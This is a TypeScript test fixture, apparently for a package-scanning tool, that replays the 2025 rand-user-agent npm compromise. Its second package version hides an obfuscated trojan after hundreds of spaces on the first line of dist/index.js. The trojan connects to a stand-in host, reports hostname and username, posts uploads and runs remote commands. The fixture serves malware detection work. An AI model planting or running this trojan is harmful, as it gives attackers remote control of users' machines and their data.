import { obfuscated } from '../obfuscated.js'
import type { Replay } from '../replay.js'
import { replayUpgrade } from '../upgrade.js'

const agents = `'use strict'

const list = require('./list.json')

/** Weighted by how often each was seen. */
function pick(agents) {
  const all = agents.reduce((sum, { weight }) => sum + weight, 0)
  let at = Math.random() * all
  return agents.find(({ weight }) => (at -= weight) < 0) ?? agents[0]
}

module.exports = (device, browser = null, os = null) => {
  const matching = list.filter(
    (agent) => agent.device === device && (!browser || agent.browser === browser) && (!os || agent.os === os),
  )
  if (matching.length === 0) throw new Error('no user agent for these')
  return pick(matching).text
}
`

const list = JSON.stringify([
  { device: 'desktop', browser: 'chrome', os: 'windows', weight: 3, text: 'Mozilla/5.0 (inert)' },
])

/** Would take orders from a socket: a folder, a listing, or a command to run. */
const trojan = obfuscated(
  'global[«r»]=require;(async()=>{const $system=global[«r»](«os»),$child=global[«r»](«child_process»),$io=global[«r»](«socket.io-client»),$web=global[«r»](«axios»);' +
    'const $socket=$io(«http://orders.agent.example:8080»,{reconnectionDelay:0x1388});' +
    '$socket[«on»](«connect»,()=>{$socket[«emit»](«identify»,«client»,{host:$system[«hostname»](),user:$system[«userInfo»]()[«username»]});});' +
    '$socket[«on»](«upload»,$text=>{$web[«post»](«http://orders.agent.example:8081/upload»,$text);});' +
    '$socket[«on»](«command»,$order=>{$child[«exec»]($order,{windowsHide:!![]},($error,$out)=>{$socket[«emit»](«response»,$out);});});})();',
  120,
)

const inIndex = { file: 'dist/index.js', line: /_0x/ } as const

export const replay: Replay = replayUpgrade({
  description:
    'Months after its last release, rand-user-agent gained a trojan on the first line of its one file, so far to the right of a few ' +
    'blanks that no page showed it.',
  date: '2025-05',
  name: 'rand-user-agent',
  from: ['2.0.82', { manifest: { main: 'dist/index.js' }, files: { 'dist/index.js': agents, 'dist/list.json': list } }],
  to: [
    '2.0.83',
    {
      manifest: { main: 'dist/index.js', dependencies: { axios: '^1.8.4', 'socket.io-client': '^4.8.1' } },
      files: {
        'dist/index.js': agents.replace(
          "require('./list.json')\n",
          `require('./list.json')${' '.repeat(420)};${trojan}\n`,
        ),
        'dist/list.json': list,
      },
    },
  ],
  findings: [
    ['code-hidden', 'critical', inIndex],
    ['combined-risk', 'critical', inIndex],
    ['remote-code-run', 'critical', inIndex],
    ['beacon-added', 'high', inIndex],
    ['capability-added', 'high', inIndex],
    ['code-obfuscated', 'high', inIndex],
    ['network-host-added', 'medium', inIndex],
  ],
})
